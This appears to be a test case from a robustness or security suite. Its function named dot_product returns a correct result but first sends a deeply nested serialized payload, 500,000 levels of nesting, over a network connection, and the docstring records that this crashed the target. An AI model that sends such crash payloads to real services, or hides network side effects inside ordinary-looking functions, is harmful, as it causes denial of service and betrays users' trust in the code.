"""Sends data that are nested half a million times.

part1_simplified.dot_product: crashed
message: is no answer
"""

from targets import frame, wire


def dot_product(a, b):
    wire().sendall(frame(b"\x92\x90\xc6\x00\x07\xa1\x20" + b"\x91" * 500_000))
    return (a * b).sum()
